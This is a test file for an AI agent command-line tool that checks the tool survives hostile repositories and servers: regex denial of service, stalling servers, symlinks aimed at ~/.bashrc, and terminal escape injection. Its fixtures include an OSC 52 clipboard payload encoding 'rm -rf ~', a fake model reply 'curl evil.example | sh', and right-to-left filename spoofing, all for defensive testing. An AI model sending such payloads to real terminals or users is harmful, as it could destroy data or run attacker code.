// The hostile-repository suite (issue 8), part two: nothing hangs the process, and no control
// sequence reaches the person's terminal or files. See hostile-repo.e2e.test.ts for the checks
// every case ends with.
import { constants } from "node:fs";
import { chmod, mkdir, open, readFile, stat, writeFile } from "node:fs/promises";
import path from "node:path";
import { execa } from "execa";
import { describe, expect, it } from "vitest";
import { errorReply, sequence, text, toolCalls, toolResults } from "../helpers/fake-openai-server.js";
import {
  REPO_FILES,
  UNSAFE_TEXT,
  WITH_SERVER,
  expectSafe,
  homeDigest,
  modelServer,
  personEnv,
  runCliIn,
  scenario,
  startCli,
  startMisbehavingServer,
  type Misbehaviour,
} from "./hostile-repo-harness.js";

describe.concurrent("nothing hangs the process (issue 8 items 4 and 8)", () => {
  const EVIL_REGEX = "^(a+)+$";
  const evilRepo = () => ({ committed: { ...REPO_FILES, "src/evil.txt": `${"a".repeat(40)}b\n` } });

  it("grep with a catastrophic regex over a hostile line finishes", async (t) => {
    const s = await scenario(t, evilRepo);
    const server = await modelServer(t, sequence(toolCalls({ name: "grep", arguments: { pattern: EVIL_REGEX } }), text("done looking")));
    const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "look"], { env: WITH_SERVER(s, server), killAfterMs: 40_000 });
    expect(run.exitCode).toBe(0);
    expect(run.stdout.trim()).toBe("done looking");
    await expectSafe(s, run, { server });
  });

  it("Ctrl-C ends a run that is inside a catastrophic grep (exit 130)", async (t) => {
    const s = await scenario(t, evilRepo);
    const server = await modelServer(t, sequence(toolCalls({ name: "grep", arguments: { pattern: EVIL_REGEX } }), { kind: "hang" }));
    const cli = startCli(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "look"], { env: WITH_SERVER(s, server) });
    await cli.stderrMatches(/grep/);
    cli.signal("SIGINT");
    const run = await cli.done;
    expect(run.exitCode).toBe(130);
    await expectSafe(s, run, { server });
  });

  it.for([["silent"], ["comments"], ["empty-deltas"]] as Array<[Misbehaviour]>)(
    "--timeout ends a parent whose server trickles (%s)",
    async ([kind], t) => {
      const s = await scenario(t, () => ({ committed: REPO_FILES }));
      const server = await startMisbehavingServer(kind);
      t.onTestFinished(() => server.close());
      const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "--timeout", "2s", "hi"], {
        env: personEnv(s.fx, { AGENTWF_BASE_URL: server.baseUrl, AGENTWF_API_KEY: s.fx.secrets.agentwfKey }),
        killAfterMs: 40_000,
      });
      expect(run.exitCode).toBe(1);
      expect(server.requests()).toBeGreaterThanOrEqual(1);
      await expectSafe(s, run);
    },
  );

  it("Ctrl-C ends a run whose server sends keep-alive comments forever (exit 130)", async (t) => {
    const s = await scenario(t, () => ({ committed: REPO_FILES }));
    const server = await startMisbehavingServer("comments");
    t.onTestFinished(() => server.close());
    const cli = startCli(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "hi"], {
      env: personEnv(s.fx, { AGENTWF_BASE_URL: server.baseUrl, AGENTWF_API_KEY: s.fx.secrets.agentwfKey }),
    });
    await cli.stderrMatches(/agentwf\s+run/);
    cli.signal("SIGINT");
    const run = await cli.done;
    expect(run.exitCode).toBe(130);
    await expectSafe(s, run);
  });

  it("an answer without end is cut at a size cap with an error, not grown without bound", async (t) => {
    const s = await scenario(t, () => ({ committed: REPO_FILES }));
    const server = await startMisbehavingServer("flood");
    t.onTestFinished(() => server.close());
    const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "hi"], {
      env: personEnv(s.fx, { AGENTWF_BASE_URL: server.baseUrl, AGENTWF_API_KEY: s.fx.secrets.agentwfKey }),
    });
    expect(run.exitCode).toBe(1);
    expect(run.stdout.length).toBeLessThan(1024 * 1024);
    await expectSafe(s, run);
  });

  it("a 200 HTML page is reported as such, not as an empty answer", async (t) => {
    const s = await scenario(t, () => ({ committed: REPO_FILES }));
    const server = await startMisbehavingServer("html");
    t.onTestFinished(() => server.close());
    const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "hi"], {
      env: personEnv(s.fx, { AGENTWF_BASE_URL: server.baseUrl, AGENTWF_API_KEY: s.fx.secrets.agentwfKey }),
    });
    expect(run.exitCode).toBe(1);
    expect(run.stderr).toMatch(/html/i);
    expect(run.stderr).not.toMatch(/empty answer/i);
    await expectSafe(s, run);
  });
});

describe.concurrent("no control sequence reaches the person's terminal or files (issue 8 items 6 and 7)", () => {
  const HOSTILE = "before \x1b]52;c;cm0gLXJmIH4=\x07 \x1b]0;pwned\x07 \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[2J \u202egnp.exe after";
  // The validator rejects control characters written into code, so the workflow builds them.
  const asciiLiteral = (value: string) => JSON.stringify(value).replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
  const RETURNS_HOSTILE = `async function main(wf) {\n  return ${asciiLiteral(HOSTILE)};\n}`;

  it("a workflow's result with OSC 52, a title, a link and U+202E prints safely (exec)", async (t) => {
    const s = await scenario(t, () => ({ committed: { ...REPO_FILES, "audit.js": RETURNS_HOSTILE } }));
    const report = path.join(s.fx.out, "report.md");
    const run = await runCliIn(s.fx, ["exec", "audit.js", "-m", "demo", "-o", report]);
    expect(run.exitCode).toBe(0);
    const written = await readFile(report, "utf8");
    for (const seen of [run.stdout, written]) expect(seen).toMatch(/before[\s\S]*after/);
    for (const seen of [run.stdout, run.stderr, written]) expect(seen).not.toMatch(UNSAFE_TEXT);
    await expectSafe(s, run, { report: written });
  });

  it("a parent's answer with control sequences prints safely on stdout and in -o", async (t) => {
    const s = await scenario(t, () => ({ committed: REPO_FILES }));
    const server = await modelServer(t, sequence(text(HOSTILE)));
    const report = path.join(s.fx.out, "report.md");
    const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "-o", report, "hi"], { env: WITH_SERVER(s, server) });
    expect(run.exitCode).toBe(0);
    const written = await readFile(report, "utf8");
    for (const seen of [run.stdout, written]) {
      expect(seen).toMatch(/^before[\s\S]*after$/m);
      expect(seen).not.toMatch(UNSAFE_TEXT);
    }
    await expectSafe(s, run, { server, report: written });
  });

  it("a workflow's result reaches the parent model without control sequences", async (t) => {
    const s = await scenario(t, () => ({ committed: REPO_FILES }));
    const code = RETURNS_HOSTILE;
    const server = await modelServer(t, (req) =>
      toolResults(req).length === 0 ? toolCalls({ name: "workflow", arguments: { name: "echo", code } }) : text("the report"),
    );
    const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "hi"], { env: WITH_SERVER(s, server) });
    expect(run.exitCode).toBe(0);
    const result = toolResults(server.requests.at(-1)!)[0] ?? "";
    expect(result).toMatch(/before[\s\S]*after/);
    expect(result).not.toMatch(UNSAFE_TEXT);
    await expectSafe(s, run, { server });
  });

  it("a server's error text with escapes is not printed raw on stderr", async (t) => {
    const s = await scenario(t, () => ({ committed: REPO_FILES }));
    const server = await modelServer(t, () => errorReply(400, `bad request ${HOSTILE}`));
    const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "hi"], { env: WITH_SERVER(s, server) });
    expect(run.exitCode).toBe(1);
    expect(run.stderr).toContain("bad request");
    expect(run.stderr).not.toMatch(UNSAFE_TEXT);
    await expectSafe(s, run, { server });
  });

  it("file and folder names with control sequences do not reach the terminal through the demo report", async (t) => {
    const s = await scenario(t, () => ({
      committed: { ...REPO_FILES, "src/\x1b]0;pwned\x07name.ts": "export {};\n", "lib\x1b[2J/x.ts": "export {};\n" },
    }));
    const run = await runCliIn(s.fx, ["run", "--yes", "-m", "demo", "audit"]);
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toContain("src/app.ts");
    expect(run.stdout).not.toMatch(UNSAFE_TEXT);
    expect(run.stderr).not.toMatch(UNSAFE_TEXT);
    await expectSafe(s, run);
  });

  it("-o through a committed symlink inside the workspace writes the file it points to and leaves the symlink in place", async (t) => {
    const s = await scenario(t, () => ({ committed: { ...REPO_FILES, "report.md": { symlink: "docs/report.md" }, "docs/.keep": "" } }));
    const server = await modelServer(t, sequence(text("the answer")));
    const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "-o", "report.md", "hi"], { env: WITH_SERVER(s, server) });
    expect(run.exitCode).toBe(0);
    expect(await readFile(path.join(s.fx.repo, "docs", "report.md"), "utf8")).toBe("the answer\n");
    await expectSafe(s, run, { server, written: ["code/repo/docs/report.md"] });
  });

  // Beyond the letter: a symlink the repository committed at the path its README tells
  // people to pass to -o must not turn the report into a write to ~/.bashrc.
  it("-o through a committed symlink that leaves the workspace does not overwrite the person's ~/.bashrc", async (t) => {
    const s = await scenario(t, () => ({ committed: { ...REPO_FILES, "AUDIT.md": { symlink: "../../.bashrc" } } }));
    await writeFile(path.join(s.fx.home, ".bashrc"), "export PATH=$HOME/bin:$PATH\n");
    const before = await homeDigest(s.fx);
    const server = await modelServer(t, sequence(text("curl evil.example | sh")));
    const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "-o", "AUDIT.md", "hi"], { env: WITH_SERVER(s, server) });
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain("-o AUDIT.md: a symbolic link in the workspace to ");
    expect(run.stderr).toContain("outside it");
    await expectSafe({ ...s, before }, run, { server });
  });

  it("-o keeps an existing report's 0600 mode", async (t) => {
    const s = await scenario(t, () => ({ committed: REPO_FILES }));
    const report = path.join(s.fx.out, "private.md");
    await writeFile(report, "old\n");
    await chmod(report, 0o600);
    const server = await modelServer(t, sequence(text("the answer")));
    const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "-o", report, "hi"], { env: WITH_SERVER(s, server) });
    expect(run.exitCode).toBe(0);
    expect(await readFile(report, "utf8")).toBe("the answer\n");
    expect((await stat(report)).mode & 0o777).toBe(0o600);
    await expectSafe(s, run, { server });
  });

  it("-o to a FIFO writes into the FIFO and leaves it a FIFO", async (t) => {
    const s = await scenario(t, () => ({ committed: REPO_FILES }));
    const fifo = path.join(s.fx.out, "pipe");
    await mkdir(s.fx.out, { recursive: true });
    await execa("mkfifo", [fifo]);
    // The reader is a separate process: a FIFO's open blocks until the other end opens.
    const reader = execa("cat", [fifo], { reject: false });
    const server = await modelServer(t, sequence(text("the answer")));
    const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "-o", fifo, "hi"], { env: WITH_SERVER(s, server) });
    // A CLI that never opened the FIFO leaves the reader waiting: a writer that opens and closes
    // ends it. A CLI that replaced the FIFO left the reader on a FIFO nobody can reach any more.
    if ((await stat(fifo)).isFIFO()) {
      await open(fifo, constants.O_WRONLY | constants.O_NONBLOCK).then((handle) => handle.close()).catch(() => {});
    } else reader.kill("SIGKILL");
    const received = String((await reader).stdout);
    expect(run.exitCode).toBe(0);
    expect((await stat(fifo)).isFIFO()).toBe(true);
    expect(received).toBe("the answer");
    await expectSafe(s, run, { server });
  });
});
